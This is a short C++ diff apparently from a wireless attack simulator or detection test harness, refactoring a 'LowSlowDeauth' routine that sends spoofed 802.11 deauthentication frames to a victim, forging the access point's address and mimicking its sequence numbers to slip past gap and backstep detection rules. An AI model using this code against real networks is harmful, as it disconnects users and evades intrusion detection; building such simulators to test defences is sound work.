@@ -18,22 +18,19 @@ void LowSlowDeauth::configure(const AttackerEnv& env) {
 }
 
 void LowSlowDeauth::send_once() {
-  dot11::Frame f;
-  f.type = dot11::FrameType::kManagement;
-  f.subtype = static_cast<std::uint8_t>(dot11::MgmtSubtype::kDeauth);
-  f.addr1 = env_.victim_mac;
-  f.addr2 = env_.legit_bssid;
-  f.addr3 = env_.legit_bssid;
-  // Sequence mimicry: one plausible step past the AP's last overheard
-  // frame, indistinguishable from a retry to the gap/backstep rules.
-  f.sequence = seq_seen_ ? static_cast<std::uint16_t>((last_seq_ + 1) & 0x0fff)
-                         : 0;
   dot11::DeauthBody body;
   body.reason = dot11::ReasonCode::kPrevAuthExpired;
-  f.body = body.encode();
-  util::Bytes raw = radio_->acquire_buffer(24 + f.body.size());
-  f.serialize_into(raw);
-  radio_->transmit(std::move(raw));
+  // Sequence mimicry: one plausible step past the AP's last overheard
+  // frame, indistinguishable from a retry to the gap/backstep rules.
+  const auto sequence =
+      static_cast<std::uint16_t>(seq_seen_ ? (last_seq_ + 1) & 0x0fff : 0);
+  dot11::transmit_mgmt(*radio_,
+                       {.subtype = dot11::MgmtSubtype::kDeauth,
+                        .addr1 = env_.victim_mac,
+                        .addr2 = env_.legit_bssid,
+                        .addr3 = env_.legit_bssid,
+                        .sequence = sequence},
+                       body);
   ++sent_;
 }
 
